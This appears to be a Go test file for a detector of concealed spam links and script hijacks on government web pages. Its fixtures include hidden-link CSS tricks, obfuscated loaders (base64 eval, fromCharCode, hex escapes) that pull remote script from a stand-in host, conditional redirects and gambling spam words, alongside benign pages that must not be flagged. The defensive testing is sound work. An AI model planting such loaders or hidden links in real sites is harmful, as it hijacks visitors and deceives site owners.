package check

import (
	"encoding/base64"
	"strings"
	"testing"
)

// parse builds a page read from the contract's address.
func parse(t testing.TB, src string) *Page {
	t.Helper()
	p, err := ParsePage([]byte(src), "text/html; charset=utf-8", contractURL)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func concealedIn(t testing.TB, src string) (ids []string) {
	t.Helper()
	for _, f := range Violations(Run(Facts{Page: parse(t, src)})) {
		if strings.HasPrefix(f.Check, "concealed.") {
			ids = append(ids, f.Check)
		}
	}
	return ids
}

func article(head, foot string) string {
	return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>某市召开专题会议_某市人民政府</title>` + head +
		`</head><body><h1>某市召开专题会议</h1><div class="TRS_Editor"><p>会议强调，要认真落实各项任务，确保取得实效。各部门要加强协调，抓好督促检查。</p></div>` + foot + `</body></html>`
}

// Each way of hiding, with a neutral anchor text and a neutral foreign host, so
// that neither the word list nor the host marks help.
func TestConcealedWaysWithoutWords(t *testing.T) {
	const a = `<a href="http://www.qingshan-trade.com/p/1">点击进入</a>`
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for name, foot := range map[string]string{
		"display none":            `<div style="display:none">` + a + `</div>`,
		"display none important":  `<div style="DISPLAY : none !important">` + a + `</div>`,
		"visibility":              `<span style="visibility:hidden">` + a + `</span>`,
		"hidden attribute":        `<div hidden>` + a + `</div>`,
		"hidden attribute on a":   `<a hidden href="http://www.qingshan-trade.com">点击</a>`,
		"offscreen left":          `<div style="position:absolute;left:-9999px">` + a + `</div>`,
		"offscreen top in em":     `<div style="position:fixed;top:-100em">` + a + `</div>`,
		"offscreen margin":        `<div style="margin-left:-5000px">` + a + `</div>`,
		"offscreen translate":     `<div style="transform:translateX(-9999px)">` + a + `</div>`,
		"text indent":             `<p style="text-indent:-9999px">` + a + `</p>`,
		"font size zero":          `<a style="font-size:0" href="http://www.qingshan-trade.com">点击</a>`,
		"font size one":           `<div style="font-size:1px">` + a + `</div>`,
		"opacity":                 `<div style="opacity:0.0">` + a + `</div>`,
		"opacity filter":          `<div style="filter:alpha(opacity=0)">` + a + `</div>`,
		"height zero":             `<div style="height:0;overflow:hidden">` + a + `</div>`,
		"max height zero":         `<div style="max-height:0px;overflow:hidden">` + a + `</div>`,
		"clip":                    `<div style="position:absolute;clip:rect(0,0,0,0)">` + a + `</div>`,
		"clip path":               `<div style="clip-path:inset(100%)">` + a + `</div>`,
		"z-index":                 `<div style="position:absolute;z-index:-999">` + a + `</div>`,
		"scale":                   `<div style="transform:scale(0)">` + a + `</div>`,
		"scale x":                 `<div style="-webkit-transform:scaleX(0)">` + a + `</div>`,
		"white on white":          `<div style="background:#fff"><a style="color:white" href="http://www.qingshan-trade.com">点击</a></div>`,
		"nearly white on white":   `<div style="background-color:rgb(255,255,255)"><font color="#fefefe">` + a + `</font></div>`,
		"transparent ink":         `<div style="color:rgba(0,0,0,0)">` + a + `</div>`,
		"class in style block":    `<style>.k9{position:absolute;left:-999em}</style><div class="k9">` + a + `</div>`,
		"id in style block":       `<style>div#k9 { display:none }</style><div id="k9">` + a + `</div>`,
		"class with ancestors":    `<style>.foot .k9, .other{height:1px;overflow:hidden}</style><div class="foot"><p class="k9">` + a + `</p></div>`,
		"style after content":     `<div class="z">` + a + `</div><style>.z{visibility:hidden}</style>`,
		"marquee":                 `<marquee height="1" width="2">` + a + `</marquee>`,
		"marquee fast":            `<marquee scrollamount="10000" height="5">` + a + `</marquee>`,
		"iframe":                  `<iframe src="//www.qingshan-trade.com/x" width="0" height="0"></iframe>`,
		"iframe by style":         `<iframe src="http://www.qingshan-trade.com/x" style="width:1px;height:1px"></iframe>`,
		"iframe display none":     `<iframe src="http://www.qingshan-trade.com/x" style="display:none"></iframe>`,
		"one pixel":               `<a href="http://www.qingshan-trade.com"><img src="/s.gif" width="1" height="1"></a>`,
		"one pixel by style":      `<a href="http://www.qingshan-trade.com"><img src="/s.gif" style="width:1px;height:1px"></a>`,
		"document.write":          `<script>document.write('<div style="display:none">')</script>` + a + `<script>document.write('</div>')</script>`,
		"document.writeln":        `<script>document.writeln("<div style='position:absolute;top:-999px'>");</script>` + a + `<script>document.writeln("<\/div>");</script>`,
		"document.write style":    `<script>document.write("<style>.q1{display:none}</style>")</script><div class="q1">` + a + `</div>`,
		"write of the whole":      `<script>document.write('<div style="display:none"><a href="http://www.qingshan-trade.com">点击<\/a><\/div>')</script>`,
		"hide by id":              `<div id="x1">` + a + `</div><script>document.getElementById("x1").style.display="none"</script>`,
		"hide by cssText":         `<div id="x1">` + a + `</div><script>document.getElementById('x1').style.cssText='position:absolute;left:-9999px'</script>`,
		"hide by jquery":          `<div id="x1">` + a + `</div><script>$("#x1").hide()</script>`,
		"hide by jquery css":      `<div class="x1">` + a + `</div><script>$(".x1").css("display","none")</script>`,
		"base64 loader":           `<script>eval(atob("` + b64(`document.write("<script src='http://www.qingshan-trade.com/j.js'></script>")`) + `"))</script>`,
		"base64 in pieces":        `<script>var s="` + b64(`location.href='http://www.qingshan-trade.com/'`)[:20] + `"+"` + b64(`location.href='http://www.qingshan-trade.com/'`)[20:] + `";eval(atob(s))</script>`,
		"fromCharCode":            `<script>document.write(String.fromCharCode(` + codes(`<script src="http://www.qingshan-trade.com/a.js"></script>`) + `))</script>`,
		"fromCharCode apply":      `<script>eval(String.fromCharCode.apply(null,[` + codes(`location='http://www.qingshan-trade.com'`) + `]))</script>`,
		"unescape":                `<script>document.write(unescape("%3Cscript%20src%3D%27http%3A//www.qingshan-trade.com/a.js%27%3E%3C/script%3E"))</script>`,
		"hex escapes":             `<script>eval("\x64\x6f\x63\x75\x6d\x65\x6e\x74\x2e\x77\x72\x69\x74\x65\x28\x22\x3c\x73\x63\x72\x69\x70\x74\x20\x73\x72\x63\x3d\x68\x74\x74\x70\x3a\x2f\x2f\x77\x77\x77\x2e\x71\x69\x6e\x67\x73\x68\x61\x6e\x2d\x74\x72\x61\x64\x65\x2e\x63\x6f\x6d\x2f\x61\x3e\x22\x29")</script>`,
		"reversed":                `<script>location.href="moc.edart-nahsgniq.www//:ptth".split("").reverse().join("")</script>`,
		"referrer":                `<script>if(document.referrer.indexOf("baidu")>0){window.location="http://www.qingshan-trade.com"}</script>`,
		"user agent":              `<script>var u="http://www.qingshan-trade.com/m";if(/iPhone|Android/.test(navigator.userAgent)){location.replace(u)}</script>`,
		"bracket access":          `<script>if(navigator["userAgent"].match(/Mobile/)){window["location"]["href"]="http://www.qingshan-trade.com"}</script>`,
		"refresh":                 `<meta http-equiv="refresh" content="0; url=http://www.qingshan-trade.com/">`,
		"on load":                 `<img src="/x.gif" onerror="if(document.referrer)location.href='http://www.qingshan-trade.com'">`,
		"anchor in references":    `<a href="http://www.qingshan-trade.com">&#28857;&#20987;&#36827;&#20837;</a>`,
		"anchor in hex reference": `<a href="http://www.qingshan-trade.com">&#x70b9;&#x51fb;</a>`,
		"anchor split by tags":    `<a href="http://www.qingshan-trade.com"><i>点</i><b>击</b><i>进</i></a>`,
		"anchor split by comment": `<a href="http://www.qingshan-trade.com">点<!-- x -->击<!-- y -->进</a>`,
		"anchor split invisibly":  "<a href=\"http://www.qingshan-trade.com\">点\u200b击\u200b进入</a>",
		"anchor split by signs":   `<a href="http://www.qingshan-trade.com">点-击-进-入</a>`,
		"line split by elements":  `<p>某<i></i>某<b></b>平台</p>`,
		"line split by comments":  `<p>欢迎来到某<!-- 1 -->某<!-- 2 -->场</p>`,
		"anchor split by filler":  `<a href="http://www.qingshan-trade.com">点<span style="display:none">q</span>击</a>`,
	} {
		t.Run(name, func(t *testing.T) {
			if ids := concealedIn(t, article("", foot)); len(ids) == 0 {
				t.Errorf("nothing seen in %s", foot)
			}
		})
	}
	for name, head := range map[string]string{
		"title in references":  `<title>&#28857;&#20987;&#36827;&#20837;_某市</title>`,
		"title in escapes":     `<script>document.title="\u70b9\u51fb\u8fdb\u5165"</script>`,
		"title literal escape": `<title>\u70b9\u51fb_某市</title>`,
		"keywords":             `<meta name="keywords" content="&#28857;&#20987;,某市">`,
	} {
		t.Run(name, func(t *testing.T) {
			src := strings.Replace(article("", ""), "<title>某市召开专题会议_某市人民政府</title>", "", 1)
			if ids := concealedIn(t, strings.Replace(src, "</head>", head+"</head>", 1)); len(ids) == 0 {
				t.Errorf("nothing seen in %s", head)
			}
		})
	}
}

func codes(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(strings.TrimSpace(itoa(int(r))))
	}
	return b.String()
}

func itoa(n int) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return itoa(n/10) + string(rune('0'+n%10))
}

func TestConcealedWords(t *testing.T) {
	for name, src := range map[string]string{
		"visible spam link":       article("", `<div>友情链接：<a href="http://www.qingshan-trade.com">足球投注</a></div>`),
		"visible spam host":       article("", `<div>友情链接：<a href="http://bet.qingshan-trade.com">点击</a></div>`),
		"title word":              article(`<meta name="description" content="澳门赌场官网">`, ""),
		"planted directory":       article("", `<div style="display:none"><a href="/uploads/1.html">真人视讯</a></div>`),
		"hidden words, no link":   article("", `<div style="text-indent:-999em">时时彩 百家乐</div>`),
		"word split by elements":  article("", `<p>欢迎来到网上<b></b>赌<i></i>场</p>`),
		"word split by signs":     article("", `<p>最大的博*彩平台</p>`),
		"word split invisibly":    article("", "<p>最大的百\u200b家\u200b乐</p>"),
		"word in decoded script":  article("", `<script>document.write(unescape("%u535A%u5F69%u5E73%u53F0"))</script>`),
		"title of script escaped": article(`<script>document.title="\u535a\u5f69"</script>`, ""),
	} {
		t.Run(name, func(t *testing.T) {
			if ids := concealedIn(t, src); len(ids) == 0 {
				t.Error("nothing seen")
			}
		})
	}
}

func TestConcealedHonestPages(t *testing.T) {
	for name, foot := range map[string]string{
		"menu":                   `<ul class="sub" style="display:none"><li><a href="/a/">公告</a></li><li><a href="http://www.mca.gov.cn">民政部</a></li></ul>`,
		"menu with media":        `<div style="display:none"><a href="http://www.gov.cn">中国政府网</a><a href="http://www.people.com.cn">人民网</a><a href="http://www.xinhuanet.com">新华网</a><a href="/x">更多</a></div>`,
		"friend menu mixed":      `<div style="display:none"><a href="http://a.gov.cn">甲</a><a href="http://b.gov.cn">乙</a><a href="http://c.gov.cn">丙</a><a href="http://www.shaanxi-bank.com">某银行</a></div>`,
		"share bar":              `<div style="display:none"><a href="http://service.weibo.com/share?url=x">微博</a><a href="https://connect.qq.com/x">QQ</a></div>`,
		"skip link":              `<a href="#main" style="position:absolute;left:-9999px">跳到正文</a>`,
		"logo by indent":         `<h2 style="text-indent:-9999px"><a href="/">某市人民政府</a></h2>`,
		"carousel":               `<div style="opacity:0"><a href="/xw/1.html"><img src="/1.jpg"></a></div>`,
		"screen reader text":     `<style>.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}</style><span class="sr-only">当前位置</span><a class="sr-only" href="/wza">无障碍</a>`,
		"print style":            `<style>@media print{.noprint{display:none}}</style><div class="noprint"><a href="http://www.shaanxi-bank.com">某银行</a></div>`,
		"hover menu":             `<style>.m:hover .s{display:none}</style><div class="s"><a href="http://www.shaanxi-bank.com">某银行</a></div>`,
		"white on dark":          `<div style="background:#1e4a8c"><a style="color:#fff" href="http://www.shaanxi-bank.com">某银行</a></div>`,
		"white on picture":       `<div style="background:#fff url(/bg.jpg)"><a style="color:#fff" href="http://www.shaanxi-bank.com">某银行</a></div>`,
		"friend link, company":   `<div>友情链接：<a href="http://www.shaanxi-bank.com">某银行</a> <a href="http://www.people.com.cn">人民网</a></div>`,
		"statistics":             `<script>document.write(unescape("%3Cspan id='cnzz_1'%3E%3C/span%3E%3Cscript src='http://s4.cnzz.com/z.php' type='text/javascript'%3E%3C/script%3E"))</script>`,
		"party mark":             `<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1.js' type='text/javascript'%3E%3C/script%3E"))</script>`,
		"hidden statistics":      `<div style="display:none"><script src="http://s4.cnzz.com/z.php"></script><a href="http://www.cnzz.com">统计</a></div>`,
		"mobile on own site":     `<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="http://m.example.gov.cn/"}</script>`,
		"mobile by replace":      `<script>if(/Android/.test(navigator.userAgent)){location.href=location.href.replace(".html","_m.html")}</script>`,
		"https upgrade":          `<script>if(location.protocol=="http:"){location.href="https://www.example.gov.cn"+location.pathname}</script>`,
		"old browser":            `<script>if(navigator.userAgent.indexOf("MSIE 6")>0){document.getElementById("tip").style.display="block"}</script>`,
		"tabs by script":         `<div id="t2"><a href="/b">乙</a></div><script>document.getElementById("t2").style.display="none"</script>`,
		"hidden frame, own":      `<iframe style="display:none" src="https://sso.example.gov.cn/check"></iframe><iframe src="" width="0" height="0"></iframe>`,
		"article on gambling":    `<p>公安机关打击跨境赌博，查处“六合彩”、百家乐、网络投注案件，提醒群众抵制赌博。</p>`,
		"news link on gambling":  `<a href="http://www.people.com.cn/1">公安部打击跨境网络赌博</a> <a href="http://www.shaanxi-press.com/2">我市查处一起网上赌场案件</a>`,
		"welfare lottery":        `<a href="http://www.cwl.gov.cn">中国福利彩票</a>`,
		"emphasis in a link":     `<a href="http://www.shaanxi-bank.com"><b>陕西</b>某银行<em>官网</em></a>`,
		"spaced link":            `<a href="http://www.shaanxi-bank.com">某 银 行</a>`,
		"rare name":              `<p>赵&#40863;、钱&#x4DAE;、孙&#19968;</p>`,
		"spaces in references":   `<a href="http://www.shaanxi-bank.com">某&#160;银&nbsp;行&#12288;</a>`,
		"minified messages":      `<script>var m={ok:"\u786e\u5b9a",no:"\u53d6\u6d88"};$.get("https://api.weixin.qq.com/x")</script>`,
		"data picture":           `<script>var i="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"</script>`,
		"one pixel of one's own": `<a href="/map"><img src="/1.gif" width="1" height="1"></a>`,
		"line of a table":        `<table><tr><td height="1"><a href="/x">x</a></td></tr></table>`,
		"bookmarks in a line":    `<p>第<a name="_Toc1"></a>一<a name="_Toc2"></a>章</p><p><span>通</span> <span>知</span></p><p>一<br>二<br>三</p>`,
		"words inside words":     `<div style="display:none"><a href="/1">路口交通管理</a><a href="/2">妇女优先服务窗口</a><a href="/3">多彩金秋活动</a><a href="/4">加快三农发展</a></div><p>特性，交互；在路口、交通要道<b>军人</b>妻子</p>`,
		"tax service":            `<ul style="display:none"><li><a href="/1">代开发票申请</a></li><li><a href="/2">公章刻制备案</a></li></ul>`,
		"negative indent, small": `<p style="text-indent:-2em"><a href="http://www.shaanxi-bank.com">某银行</a></p>`,
		"small font":             `<p style="font-size:9pt"><a href="http://www.shaanxi-bank.com">某银行</a></p>`,
		"font size percent":      `<p style="font-size:90%"><a href="http://www.shaanxi-bank.com">某银行</a></p>`,
	} {
		t.Run(name, func(t *testing.T) {
			for _, f := range Violations(Run(Facts{Page: parse(t, article("", foot))})) {
				if strings.HasPrefix(f.Check, "concealed.") {
					t.Errorf("false alarm: %s %s at %s", f.Check, f.Says, f.Where)
				}
			}
		})
	}
	all := `<html><head><title>&#26576;&#24066;&#20154;&#27665;&#25919;&#24220;</title></head><body><p>&#26576;&#24066;&#20154;&#27665;&#25919;&#24220;&#21150;&#20844;&#23460;&#20851;&#20110;&#21360;&#21457;</p></body></html>`
	if ids := concealedIn(t, all); len(ids) > 0 {
		t.Errorf("a page written in references throughout: %v", ids)
	}
}
